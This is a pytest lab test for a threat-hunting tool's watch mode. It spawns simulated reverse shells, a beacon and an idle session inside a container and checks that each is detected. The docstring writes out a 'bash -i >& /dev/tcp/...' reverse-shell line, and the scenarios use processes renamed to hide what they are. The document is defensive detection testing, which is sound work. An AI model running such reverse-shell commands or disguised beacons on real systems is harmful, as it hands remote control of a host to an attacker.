"""``harden hunt --watch`` on a real lab container: what one snapshot misses, the watch sees, with counts.

Its own lab (state default, prefix ``harden-h20inc<pid>``). Inside the container, for real
(``tests/support/watch_scenarios.py``): a loop reopening ``bash -i >& /dev/tcp/198.18.0.1/...``
(each shell lives 2 s, then 5 s pause, 6 rounds), a beacon (a renamed python connecting for
2 s every 4 s, 12 rounds) and a quiet session (a renamed python holding one idle
connection, 80 s). Listeners on 198.18.0.1 only (the lab bridge: checked with ``ip route get``),
bounded in connections and lifetime; every scenario process is killed by pid.
"""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path

import jsonschema
import pytest

from hardening.hunt.run import load_schema
from hardening.lab import image_ref

sys.path.insert(0, str(Path(__file__).parents[1] / "support"))
import hunt_scenarios as hs
import watch_scenarios as ws
from labutil import harden_cli as harden
from labutil import private_lab

pytestmark = pytest.mark.lab
BIN = Path(sys.executable).parent
WATCH_S = 36


@pytest.fixture(scope="module")
def wlab(lab, tmp_path_factory):  # `lab` first: root, podman and the shared network exist
    with private_lab(tmp_path_factory, ("default",), "h20inc") as up:
        yield up


def _kill_all(container: str) -> dict[int, set[int]]:
    """Kill every scenario process (the loop may fork between a look and the kill: look again)."""
    for _ in range(10):
        left = hs.scenario_pids(container)
        if not left:
            return {}
        hs.kill(container, set().union(*left.values()))
        time.sleep(0.3)
    return hs.scenario_pids(container)


def test_watch_sees_transient_shells_beacons_and_quiet_sessions(wlab, tmp_path):
    c = wlab.host("default").container
    route = hs.sh(c, "ip route get 198.18.0.1")
    assert " dev eth0 " in route, route  # the listeners are reached over the lab bridge
    hs.copy_binaries(image_ref(), c)
    groups: dict[int, set[int]] = {}
    try:
        with ws.HoldingListener(hold=2.0, lifetime=100) as short, hs.Listener(lifetime=100) as long:
            cases = ws.watch_scenarios(short.port, long.port)
            for i, case in zip((ws.TRANSIENT, ws.BEACON, ws.QUIET), cases, strict=True):
                hs.start(c, case, i)
            end = time.monotonic() + 15
            while time.monotonic() < end and not short.closed():
                time.sleep(0.05)
            assert short.closed(), "no reverse shell connected and ended"
            time.sleep(0.3)  # the first shell is gone; the loop sleeps 5 s: one snapshot now misses it
            single = harden("hunt", wlab.inventory, "--out", tmp_path / "single", "--timeout", "30")
            started = time.monotonic()
            watch = harden(
                "hunt", wlab.inventory, "--out", tmp_path / "watch", "--watch", str(WATCH_S), "--interval", "1"
            )
            took = time.monotonic() - started
            groups = hs.scenario_pids(c)
    finally:
        left = _kill_all(c)
    assert not left, f"scenario processes left behind: {left}"

    assert single.returncode in (0, 1), single.stderr[-3000:]
    one = json.loads((tmp_path / "single" / "hunt.json").read_text())
    jsonschema.validate(one, load_schema("hunt.v1.json"))
    (h1,) = one["hosts"]
    assert h1["status"] == "ok" and h1["samples"] == 1, h1
    # the shell was between rounds: one snapshot misses it. The renamed pythons are python by their
    # executable's content (hunt.exeid), so one holding a connection at that moment is seen anyway.
    seen = {d["pid"] for d in h1["detections"]}
    assert not seen & groups[ws.TRANSIENT] and seen <= groups[ws.BEACON] | groups[ws.QUIET], h1
    assert all("by its content" in " ".join(d["reasons"]) for d in h1["detections"]), h1

    assert watch.returncode == 1, watch.stderr[-3000:]  # high: the reverse shells
    assert WATCH_S <= took < WATCH_S + 20, took
    doc = json.loads((tmp_path / "watch" / "hunt.json").read_text())
    jsonschema.validate(doc, load_schema("hunt.v1.json"))
    (h,) = doc["hosts"]
    assert h["status"] == "ok" and h["watch"]["stopped"] == "duration", h["watch"]
    samples = h["samples"]
    # a sample every second, fewer when samples take longer than that under load
    assert samples == h["watch"]["samples"] and WATCH_S // 2 <= samples <= WATCH_S + 1, samples

    # the transient shells: one recurring incident under the loop, with counts
    loop = groups[ws.TRANSIENT]
    (rec,) = [i for i in h["incidents"] if i["root"]["pid"] in loop]
    assert rec["root"]["role"] == "spawner" and rec["severity"] == "high", rec
    assert rec["occurrences"] >= 3 and rec["occurrences"] <= rec["samples"] < samples, rec
    assert rec["first_seen"] < rec["last_seen"] and rec["tree"].startswith(f"sh({rec['root']['pid']}) > ")
    shells = [p for p in rec["processes"] if p["severity"] is not None]
    assert len(shells) == rec["occurrences"] and all(p["process"] == "bash" for p in shells)
    by_pid = {d["pid"]: d for d in h["detections"]}
    assert all(by_pid[p["pid"]]["samples"] < samples for p in shells)  # each lived a few samples only

    # the beacon: one process, several short connections to one destination at a regular interval
    (beacon,) = [by_pid[p] for p in groups[ws.BEACON] if p in by_pid]
    reason = next(r for r in beacon["reasons"] if r.startswith("beacon: "))
    count = int(reason.split()[1])
    assert count >= 4 and "one every ~4 s" in reason and beacon["process"] == "updater", beacon

    # the quiet session: held the whole watch, moving nothing
    (quiet,) = [by_pid[p] for p in groups[ws.QUIET] if p in by_pid]
    assert quiet["samples"] == samples and quiet["process"] == "syncd"
    assert any(r.startswith("long-lived low-volume session") and " 0 B in" in r for r in quiet["reasons"]), quiet

    # no benign process of the container is reported at all
    ours = set().union(*groups.values()) | {p["pid"] for i in h["incidents"] for p in i["processes"]}
    assert not [d for d in h["detections"] if d["pid"] not in ours], h["detections"]
    assert "harden hunt --watch: sampling 1 host for" in watch.stderr  # the progress, on stderr
    out = watch.stdout  # the results: the table and a line per incident
    assert rec["id"] in out and "seen" in out
    rows = [line for line in out.splitlines() if any(i["id"] in line for i in h["incidents"])]
    assert rows and max(len(line) for line in rows) <= 100, rows
